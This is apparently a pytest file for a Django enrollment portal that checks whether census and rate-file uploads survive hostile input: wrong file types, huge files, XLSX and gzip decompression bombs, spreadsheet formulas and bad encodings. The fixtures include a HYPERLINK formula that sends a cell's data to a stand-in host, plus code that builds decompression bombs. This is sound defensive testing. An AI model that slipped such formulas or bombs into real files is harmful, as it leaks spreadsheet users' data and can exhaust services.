"""Hostile uploads (issue 8, "Bad input"): the census upload and the ETSS rate-file upload.

Wrong types, huge files, an XLSX "zip bomb", formulas, wrong encodings, and files that fail half-way:
each gives a clear error, memory stays bounded, and a failing file leaves the census or the catalogue
exactly as it was.

Memory bounds are measured with ``tracemalloc`` (Python allocations, which is where a reader that
slurps a file would spend its memory). They are bounds, not timings.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db.models import Count, Sum
from django.urls import reverse

from enrollment.census_import import MAX_LINES, parse_census

# Fixtures of the enrollment tests: a complete draft group of five people, and the catalogue stand-in.
from tests.enrollment.conftest import catalogue_facts, complete_group, rule_facts  # noqa: F401

MB = 1024 * 1024
HEADER = "memberRef,subscriberRef,relationship,dateOfBirth,tobaccoUse,coverageTier\n"
GOOD_ROWS = "E-001,E-001,SUBSCRIBER,1980-05-02,false,FAM\nE-001-C,E-001,CHILD,2015-01-01,false,\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "-A1"]
FORMULA_START = ("=", "+", "-", "@")


def peak_memory(call: Callable[[], Any]) -> tuple[Any, int]:
    """``call()``'s result and the peak of Python allocations while it ran, in bytes."""
    tracemalloc.start()
    try:
        result = call()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


def one_file_error(errors) -> str:
    """The single whole-file error (line 0) of a refused file, as text."""
    assert len(errors) == 1, errors
    assert errors[0].line == 0 and errors[0].fix
    return errors[0].message


def xlsx_bytes(rows: list[list[Any]], *, as_text: bool = False) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if as_text:  # formulas typed as text: openpyxl keeps the string, Excel shows it literally
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def assert_nothing_formula_like(rows: list[dict]) -> None:
    for row in rows:
        for field, value in row.items():
            if isinstance(value, str):
                assert not value.startswith(FORMULA_START), (field, value)


# --------------------------------------------------------------------------------------------------
# Census: wrong types


def test_it_refuses_a_png_named_csv_with_one_clear_error():
    rows, errors = parse_census(name="census.csv", content=PNG)
    assert rows == []
    assert "not a CSV or XLSX" in one_file_error(errors)


def test_it_refuses_a_png_named_xlsx_with_one_clear_error():
    rows, errors = parse_census(name="census.xlsx", content=PNG)
    assert rows == []
    assert "not an XLSX workbook" in one_file_error(errors)


def test_it_refuses_a_zip_that_is_not_a_workbook_without_raising():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    rows, errors = parse_census(name="census.xlsx", content=out.getvalue())
    assert rows == []
    one_file_error(errors)


def test_it_reads_an_xlsx_that_was_named_csv():
    content = xlsx_bytes(
        [HEADER.strip().split(","), ["E-001", "E-001", "SUBSCRIBER", "1980-05-02", "no", "EMP"]]
    )
    rows, errors = parse_census(name="census.csv", content=content)
    assert errors == [] and [r["member_ref"] for r in rows] == ["E-001"]


# --------------------------------------------------------------------------------------------------
# Census: size


@pytest.fixture(scope="module")
def huge_csv(tmp_path_factory) -> Path:
    """A 72 MB census CSV, written a chunk at a time (never whole in memory)."""
    path = tmp_path_factory.mktemp("huge") / "census.csv"
    row = "E-001-C,E-001,CHILD,2015-01-01,false,\n"
    chunk = (row * 10_000).encode()
    with open(path, "wb") as out:
        out.write((HEADER + GOOD_ROWS).encode())
        while out.tell() < 72 * MB:
            out.write(chunk)
    return path


def test_it_refuses_a_huge_census_reading_no_more_than_the_limit(huge_csv, settings):
    settings.CENSUS_MAX_BYTES = 5 * MB
    with open(huge_csv, "rb") as upload:
        (rows, errors), peak = peak_memory(lambda: parse_census(name="census.csv", content=upload))
    assert rows == []
    assert "larger than 5 MB" in one_file_error(errors)
    # Bound: the 5 MB read (plus one copy) and change. 24 MB is a third of the file, so a reader
    # that read the whole 72 MB (or decoded and split it into rows) could not stay under it.
    assert peak < 24 * MB, f"peak {peak / MB:.1f} MB"


def test_it_refuses_census_bytes_over_the_configured_limit(settings):
    settings.CENSUS_MAX_BYTES = 1 * MB
    content = (HEADER + GOOD_ROWS).encode() + b"E-9,E-9,SUBSCRIBER,1980-01-01,false,EMP\n" * 30_000
    assert len(content) > MB
    rows, errors = parse_census(name="census.csv", content=content)
    assert rows == [] and "larger than 1 MB" in one_file_error(errors)


def test_it_refuses_a_file_of_blank_lines_instead_of_holding_them_all(settings):
    settings.CENSUS_MAX_BYTES = 5 * MB
    content = (HEADER + GOOD_ROWS).encode() + b",,,,,\n" * (MAX_LINES + 10)
    (rows, errors), peak = peak_memory(lambda: parse_census(name="census.csv", content=content))
    assert rows == [] and f"more than {MAX_LINES} lines" in one_file_error(errors)
    assert peak < 32 * MB, f"peak {peak / MB:.1f} MB"


# --------------------------------------------------------------------------------------------------
# Census: an XLSX "zip bomb"

ROW_XML = b'<row><c t="inlineStr"><is><t>E-1</t></is></c></row>'


def build_sheet_bomb(path: Path, unpacked: int) -> Path:
    """An .xlsx whose sheet1.xml holds ``unpacked`` bytes of rows (and no <dimension>), streamed in."""
    template = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["memberRef"]])))
    chunk = ROW_XML * (1 << 14)
    with template, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for info in template.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info.filename, template.read(info.filename))
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
                b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            written = 0
            while written < unpacked:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> Path:
    """A 1.5 MB .xlsx whose sheet unpacks to 500 MB."""
    path = build_sheet_bomb(tmp_path_factory.mktemp("bomb") / "census.xlsx", 500 * MB)
    assert path.stat().st_size < 5 * MB  # small enough to pass the upload size limit
    return path


def test_it_refuses_an_xlsx_zip_bomb_before_opening_it(zip_bomb, settings):
    settings.CENSUS_MAX_BYTES = 5 * MB
    content = zip_bomb.read_bytes()
    (rows, errors), peak = peak_memory(lambda: parse_census(name="census.xlsx", content=content))
    assert rows == []
    assert "unpacks to" in one_file_error(errors)
    assert peak < 16 * MB, f"peak {peak / MB:.1f} MB"


def test_it_stops_reading_a_long_sheet_at_the_line_limit(tmp_path, settings):
    """Past the unpacked-size check, the line cap still bounds what is held: 160,000 rows, 10,001 kept.

    (The size check has to come first: openpyxl parses a whole sheet without <dimension> on opening
    it, so a 500 MB sheet would cost minutes and most of a gigabyte before the first row.)
    """
    settings.CENSUS_MAX_BYTES = 5 * MB
    settings.CENSUS_MAX_UNPACKED_BYTES = 16 * MB
    content = build_sheet_bomb(tmp_path / "long.xlsx", 8 * MB).read_bytes()
    (rows, errors), peak = peak_memory(lambda: parse_census(name="census.xlsx", content=content))
    assert rows == []
    assert f"more than {MAX_LINES} lines" in one_file_error(errors)
    assert peak < 64 * MB, f"peak {peak / MB:.1f} MB"


# --------------------------------------------------------------------------------------------------
# Census: formulas


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", range(6))
def test_it_never_keeps_a_formula_from_a_csv_cell(formula, column):
    cells = ["E-002", "E-002", "SUBSCRIBER", "1980-05-02", "false", "EMP"]
    cells[column] = formula
    out = io.StringIO()
    csv.writer(out).writerow(cells)
    rows, errors = parse_census(name="census.csv", content=(HEADER + GOOD_ROWS + out.getvalue()).encode())
    assert_nothing_formula_like(rows)
    # Every column is checked against a strict pattern, so the row with the formula is refused.
    assert [r["member_ref"] for r in rows] == ["E-001", "E-001-C"]
    assert {e.line for e in errors} == {4}


@pytest.mark.parametrize("as_text", [False, True])
def test_it_neither_evaluates_nor_keeps_formulas_in_an_xlsx(as_text):
    header = HEADER.strip().split(",")
    table = [header, ["E-001", "E-001", "SUBSCRIBER", "1980-05-02", "no", "FAM"]]
    for number, formula in enumerate(FORMULAS, start=2):
        for column in range(6):
            cells = [f"E-{number}{column}", f"E-{number}{column}", "SUBSCRIBER", "1980-05-02", "no", "EMP"]
            cells[column] = formula
            table.append(cells)
    rows, errors = parse_census(name="census.xlsx", content=xlsx_bytes(table, as_text=as_text))
    assert_nothing_formula_like(rows)
    # A formula in a required column (memberRef, relationship, dateOfBirth, coverageTier) never
    # passes: its row is refused. ("=1+1" is not evaluated to 2: a cached value is all openpyxl reads.)
    refused_lines = {e.line for e in errors}
    for line, cells in enumerate(table[1:], start=2):
        if any(c in FORMULAS for i, c in enumerate(cells) if i in (0, 2, 3, 5)):
            assert line in refused_lines, cells


def test_it_refuses_an_employee_row_whose_subscriber_ref_is_a_formula():
    content = (
        HEADER + '"E-003","=HYPERLINK(""http://evil.example"",""x"")",SUBSCRIBER,1980-05-02,no,EMP\n'
    ).encode()
    rows, errors = parse_census(name="census.csv", content=content)
    assert rows == []
    assert [(e.line, e.column) for e in errors] == [(2, "subscriberRef")]


def test_it_refuses_a_member_ref_starting_with_a_hyphen():
    rows, errors = parse_census(
        name="census.csv", content=(HEADER + "-A1,-A1,SUBSCRIBER,1980-05-02,no,EMP\n").encode()
    )
    assert rows == [] and (2, "memberRef") in {(e.line, e.column) for e in errors}


def test_it_refuses_a_zip_code_in_other_scripts_digits():
    arabic_indic_40202 = "\u0664\u0660\u0662\u0660\u0662"
    content = "memberRef,relationship,dateOfBirth,coverageTier,zip5\n"
    content += f"E-1,SUBSCRIBER,1980-05-02,EMP,{arabic_indic_40202}\n"
    rows, errors = parse_census(name="census.csv", content=content.encode())
    assert rows == [] and [(e.line, e.column) for e in errors] == [(2, "zip5")]


# --------------------------------------------------------------------------------------------------
# Census: encodings


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be"])
def test_it_reads_utf8_with_or_without_a_bom_and_utf16_with_a_bom(encoding):
    content = (HEADER + GOOD_ROWS).encode(encoding)
    if encoding == "utf-16-be":
        content = codecs.BOM_UTF16_BE + content
    rows, errors = parse_census(name="census.csv", content=content)
    assert errors == []
    assert [r["member_ref"] for r in rows] == ["E-001", "E-001-C"]


def test_it_refuses_latin1_with_an_error_that_says_to_save_as_utf8():
    content = (HEADER + GOOD_ROWS + "E-002,E-002,SUBSCRIBER,1980-05-02,false,EMP,Zoë\n").encode("latin-1")
    rows, errors = parse_census(name="census.csv", content=content)
    assert rows == []
    message = one_file_error(errors)
    assert "not UTF-8" in message and "UTF-8" in errors[0].fix


def test_it_refuses_utf16_without_a_bom_as_not_a_text_file():
    rows, errors = parse_census(name="census.csv", content=(HEADER + GOOD_ROWS).encode("utf-16-le"))
    assert rows == [] and "not a CSV or XLSX" in one_file_error(errors)


# --------------------------------------------------------------------------------------------------
# Census: through the broker's page; nothing half-imported


def census_of(group) -> list[tuple]:
    return list(
        group.census.order_by("position").values_list("member_ref", "subscriber_ref", "date_of_birth")
    )


def post_census(client, group, name: str, content: bytes):
    return client.post(
        reverse("enrollment:group_step", args=[group.pk, "census"]),
        {"action": "upload", "file": SimpleUploadedFile(name, content)},
    )


@pytest.mark.django_db
@pytest.mark.usefixtures("catalogue_facts")
@pytest.mark.parametrize(
    ("name", "content", "shown"),
    [
        ("census.csv", PNG, "not a CSV or XLSX"),
        ("census.csv", (HEADER + GOOD_ROWS + "E-2,E-2,SUBSCRIBER,1980-05-02,no,=1+1\n").encode(), "Line 4"),
        ("census.csv", (HEADER + GOOD_ROWS).encode() + b"E-3,E-3,SUBSCRIBER,1980-05-02,no,EMP,\xe9\n",
         "not UTF-8"),
    ],
    ids=["png", "formula-in-one-row", "latin-1"],
)  # fmt: skip
def test_it_leaves_the_census_as_it_was_when_an_upload_fails(broker_client, request, name, content, shown):
    group = request.getfixturevalue("complete_group")
    before = census_of(group)
    assert len(before) == 5
    response = post_census(broker_client, group, name, content)
    assert response.status_code == 200
    assert shown in response.content.decode()
    assert census_of(group) == before


@pytest.mark.django_db
@pytest.mark.usefixtures("catalogue_facts")
def test_it_shows_a_size_error_for_a_census_over_the_limit(broker_client, request, settings):
    group = request.getfixturevalue("complete_group")
    settings.CENSUS_MAX_BYTES = 1 * MB
    before = census_of(group)
    content = (HEADER + GOOD_ROWS).encode() + b" " * (MB + 1)
    response = post_census(broker_client, group, "census.csv", content)
    assert response.status_code == 200
    assert "larger than 1 MB" in response.content.decode()
    assert census_of(group) == before


# --------------------------------------------------------------------------------------------------
# ETSS rate file: import_etss and the admin upload


@pytest.fixture
def loaded_catalogue(db, settings, tmp_path):
    settings.ETSS_ARCHIVE_DIR = tmp_path / "archive"
    call_command("import_etss", str(settings.SAMPLES_DIR / "HUM_ETSS_SG_KY_20261101_000001.txt"))


def catalogue_snapshot() -> dict:
    from catalogue import models as m

    return {
        "plans": sorted(m.Plan.objects.values_list("plan_id", "plan_eff_date", "marketing_name")),
        "age": m.AgeRate.objects.aggregate(n=Count("id"), rate=Sum("rate"), tobacco=Sum("tobacco_rate")),
        "tier": sorted(m.TierRate.objects.values_list("plan_id", "rating_area_id", "tier", "rate")),
        "areas": m.RatingArea.objects.count(),
        "places": m.GeoPlace.objects.count(),
        "factors": m.Factor.objects.count(),
    }


def sample_bytes(settings) -> bytes:
    return (Path(settings.SAMPLES_DIR) / "HUM_ETSS_SG_KY_20261101_000001.txt").read_bytes()


def second_file(folder: Path, body: bytes) -> Path:
    """``body`` under the name of sequence 2 (the next one the catalogue would accept)."""
    from catalogue.testing import file_name

    path = folder / file_name(2)
    path.write_bytes(body)
    return path


def import_refused(path: Path) -> str:
    from catalogue.models import EtssFile

    with pytest.raises(CommandError, match="rejected"):
        call_command("import_etss", str(path))
    etss_file = EtssFile.objects.order_by("-id").first()
    assert etss_file.status == EtssFile.Status.REJECTED
    assert etss_file.errors, "a rejected file names what is wrong"
    return " ".join(e["message"] for e in etss_file.errors)


def test_it_rejects_a_png_named_as_an_etss_file_and_keeps_the_catalogue(loaded_catalogue, tmp_path):
    before = catalogue_snapshot()
    import_refused(second_file(tmp_path, PNG))
    assert catalogue_snapshot() == before


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
def test_it_rejects_an_etss_file_in_another_encoding_and_keeps_the_catalogue(
    loaded_catalogue, tmp_path, settings, encoding
):
    from catalogue.testing import build_etss, sample_lines, with_header

    lines = with_header(sample_lines(), seq=2)
    lines = [
        line.replace("Humana Bronze", "Humana Bronzé", 1) if line.startswith("PLN|") else line
        for line in lines
    ]
    body = build_etss(lines).decode().encode(encoding)
    before = catalogue_snapshot()
    assert "UTF-8" in import_refused(second_file(tmp_path, body))
    assert catalogue_snapshot() == before


def test_it_rejects_a_file_that_goes_bad_half_way_and_loads_nothing_of_it(loaded_catalogue, tmp_path):
    from catalogue.testing import build_etss, sample_lines, with_header

    lines = with_header(sample_lines(), seq=2, load_type="FULL")
    # Every rate changes (so a partial load would show), then one bad rate near the end.
    changed = []
    for line in lines:
        fields = line.split("|")
        if fields[0] == "ARA":
            fields[6] = f"{float(fields[6]) + 1:.2f}"
        changed.append("|".join(fields))
    last_ara = max(i for i, line in enumerate(changed) if line.startswith("ARA|"))
    fields = changed[last_ara].split("|")
    fields[6] = "12.345"  # a rate in tenths of a cent: refused
    changed[last_ara] = "|".join(fields)
    before = catalogue_snapshot()
    message = import_refused(second_file(tmp_path, build_etss(changed)))
    assert message
    assert catalogue_snapshot() == before


def test_it_rejects_a_gzip_bomb_with_bounded_memory(loaded_catalogue, tmp_path):
    path = tmp_path / "HUM_ETSS_SG_KY_20261101_000002.txt.gz"
    with gzip.open(path, "wb", compresslevel=9) as out:
        block = b"\0" * MB
        for _ in range(1024):  # 1 GB of zero bytes, about 1 MB on disk
            out.write(block)
    assert path.stat().st_size < 5 * MB
    before = catalogue_snapshot()
    message, peak = peak_memory(lambda: import_refused(path))
    assert "line longer than" in message
    assert peak < 64 * MB, f"peak {peak / MB:.1f} MB"
    assert catalogue_snapshot() == before


def test_it_rejects_tens_of_megabytes_of_garbage_with_bounded_memory(loaded_catalogue, tmp_path):
    path = tmp_path / "HUM_ETSS_SG_KY_20261101_000002.txt"
    line = b"ARA|" + b"not a rate line " * 250 + b"\n"  # 4 kB lines: the size, not the line count
    with open(path, "wb") as out:
        block = line * (MB // len(line))
        for _ in range(40):
            out.write(block)
    before = catalogue_snapshot()
    message, peak = peak_memory(lambda: import_refused(path))
    assert message
    # The reader streams in chunks and keeps at most 1,000 issues: a few MB whatever the size.
    # 24 MB is well under the file's 40 MB, so a reader that held the file could not pass.
    assert peak < 24 * MB, f"peak {peak / MB:.1f} MB"
    assert catalogue_snapshot() == before


def test_it_rejects_a_hostile_admin_upload_and_keeps_the_catalogue(
    loaded_catalogue, admin_client, django_capture_on_commit_callbacks, settings
):
    from catalogue.models import EtssFile
    from portal.celery import app

    before = catalogue_snapshot()
    settings.CELERY_TASK_ALWAYS_EAGER = True
    app.conf.task_always_eager = True
    try:
        upload = SimpleUploadedFile("HUM_ETSS_SG_KY_20261101_000002.txt", PNG)
        with django_capture_on_commit_callbacks(execute=True):
            response = admin_client.post(
                reverse("admin:catalogue_etssfile_upload"), {"file": upload}, follow=True
            )
    finally:
        app.conf.task_always_eager = False
    assert response.status_code == 200
    latest = EtssFile.objects.order_by("-id").first()
    assert latest.name == "HUM_ETSS_SG_KY_20261101_000002.txt"
    assert latest.status == EtssFile.Status.REJECTED and latest.errors
    assert catalogue_snapshot() == before


# --------------------------------------------------------------------------------------------------
# The quote page's census (catalogue/census.py): the same hostile files


def quote_census(content: bytes, filename: str):
    from catalogue.census import parse_census as parse_quote_census

    return parse_quote_census(content, filename=filename)


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_refuses_a_formula_as_a_quote_census_member_ref(formula):
    out = io.StringIO()
    csv.writer(out).writerows(
        [HEADER.strip().split(","), [formula, formula, "SUBSCRIBER", "1980-05-02", "false", "EMP"]]
    )
    rows, problems = quote_census(out.getvalue().encode(), "census.csv")
    assert rows == []
    assert [(p.line, p.column) for p in problems] == [(2, "memberRef")]


def test_it_refuses_a_quote_census_zip_bomb_before_opening_it(zip_bomb):
    content = zip_bomb.read_bytes()
    (rows, problems), peak = peak_memory(lambda: quote_census(content, "census.xlsx"))
    assert rows == [] and len(problems) == 1
    assert "unpacks to" in problems[0].message
    assert peak < 16 * MB, f"peak {peak / MB:.1f} MB"


def test_it_refuses_a_huge_quote_census_reading_no_more_than_the_limit(huge_csv, settings):
    from catalogue.census import parse_census as parse_quote_census

    settings.CENSUS_MAX_BYTES = 5 * MB
    with open(huge_csv, "rb") as upload:
        (rows, problems), peak = peak_memory(lambda: parse_quote_census(upload, filename="census.csv"))
    assert rows == [] and len(problems) == 1
    assert "larger than 5 MB" in problems[0].message
    assert peak < 24 * MB, f"peak {peak / MB:.1f} MB"


def test_it_stops_reading_a_long_quote_census_after_the_row_limit(settings):
    from catalogue.census import MAX_ROWS

    settings.CENSUS_MAX_BYTES = 5 * MB
    content = (HEADER + GOOD_ROWS).encode() + b",,,,,\n" * 200_000  # 1.2 MB of blank lines
    (rows, problems), peak = peak_memory(lambda: quote_census(content, "census.csv"))
    assert any(p.code == "GRP-008" and f"more than {MAX_ROWS}" in p.message for p in problems)
    # Holding 200,000 parsed rows would take tens of MB; the heading, 5,000 rows and one more do not.
    assert peak < 8 * MB, f"peak {peak / MB:.1f} MB"
